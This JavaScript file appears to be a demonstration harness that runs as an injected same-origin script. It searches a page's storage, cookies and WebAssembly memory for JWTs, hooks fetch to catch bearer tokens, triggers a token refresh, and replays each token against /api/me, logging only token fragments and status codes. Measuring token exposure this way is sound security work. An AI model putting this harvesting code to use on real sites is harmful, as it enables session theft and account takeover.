// A script that nobody wants in a page. It is loaded in a frame of the page's
// own origin, and so it may do all that a script in the page itself may: browsers
// part origins, not scripts.
//
// What it finds stays in here. It tells the two ends of a token, and the status
// that the server answers when it is used.
"use strict";

const page = window.parent;
const act = new URLSearchParams(window.location.search).get("act");

const acts = { read, catch: lieInWait, speak };

// In a window of its own there is no page around it, and nothing to show.
if (page !== window) {
  say(act);
  acts[act]().catch((error) => tell({ report: "failed", why: String(error) }));
}

// Looks wherever a script can look.
async function read() {
  const places = [
    ["localStorage", values(page.localStorage)],
    ["sessionStorage", values(page.sessionStorage)],
    ["document.cookie", page.document.cookie],
  ];
  const memory = await programMemory();
  places.push(["memory", memory]);

  const seen = new Set();
  const found = [];
  for (const [place, text] of places) {
    for (const token of tokensIn(text)) {
      if (seen.has(token)) continue;
      seen.add(token);
      found.push(await loot(place, token));
    }
    say(`${place}: ${found.filter((token) => token.place === place).length}`);
  }
  const cookies = page.document.cookie.split("; ").filter(Boolean);
  tell({
    report: "read",
    found,
    cookies: cookies.map((cookie) => cookie.split("=")[0]),
    searched: memory.length,
  });
}

function values(storage) {
  return Object.keys(storage).map((key) => storage.getItem(key)).join("\n");
}

// A variable in a JavaScript closure is out of every other script's reach. The
// memory of a WebAssembly program is one long array, and the loader hands it to
// whoever asks for the program's exports.
async function programMemory() {
  const start = page.wasmBindings?.default;
  const memory = start && (await start()).memory;
  return memory ? new TextDecoder("latin1").decode(memory.buffer) : "";
}

// Text that reads like a token: three parts, the first of which is a JOSE header.
// In memory other text may follow at once, so the end is found by the length that
// a signature of this algorithm has.
function tokensIn(text) {
  const signatures = { HS256: 43, RS256: 342, ES256: 86, EdDSA: 86 };
  const found = new Set();
  for (const [candidate] of text.matchAll(/eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{43,}/g)) {
    const [header, payload, rest] = candidate.split(".");
    try {
      const { alg } = JSON.parse(atob(header.replaceAll("-", "+").replaceAll("_", "/")));
      const length = signatures[alg];
      if (length <= rest.length) found.add(`${header}.${payload}.${rest.slice(0, length)}`);
    } catch {
      // It only looked like one.
    }
  }
  return [...found].slice(0, 8);
}

// Puts itself between the page and its fetch, for one request.
async function lieInWait() {
  const real = page.fetch;
  page.fetch = (input, init) => {
    page.fetch = real;
    const headers = new page.Headers(init?.headers ?? input.headers);
    const [, token] = headers.get("authorization")?.split(" ") ?? [];
    caught(new URL(input.url ?? input, page.location).pathname, token);
    return Reflect.apply(real, page, [input, init]);
  };
  tell({ report: "waiting" });
}

async function caught(path, token) {
  tell({ report: "caught", path, loot: token ? await loot("Authorization", token) : null });
}

// Does what the user could do, without having read anything. Where the cookie
// alone is not enough, it is enough to fetch a token.
async function speak() {
  const headers = { "X-Requested-With": "planted" };
  const byCookie = await fetch("/api/me", { headers });
  if (byCookie.ok) {
    const { username } = await byCookie.json();
    tell({ report: "spoken", by_cookie: byCookie.status, refresh: null, loot: null, username });
    return;
  }
  const refresh = await fetch("/api/auth/refresh", { method: "POST", headers });
  const { access_token: token, user } = await refresh.json();
  tell({
    report: "spoken",
    by_cookie: byCookie.status,
    refresh: refresh.status,
    loot: token ? await loot("/api/auth/refresh", token) : null,
    username: user?.username ?? null,
  });
}

// A thief tries the key.
async function loot(place, token) {
  const headers = { Authorization: `Bearer ${token}` };
  const { status } = await fetch("/api/me", { headers, credentials: "omit" });
  const [start, end] = [token.slice(0, 6), token.slice(-6)];
  say(`${start}…${end} → GET /api/me → ${status}`);
  return { place, start, end, length: token.length, status };
}

// For those who watch.
function say(text) {
  const line = document.createElement("div");
  line.textContent = `> ${text}`;
  document.body.append(line);
}

function tell(report) {
  page.postMessage(JSON.stringify(report), window.location.origin);
}
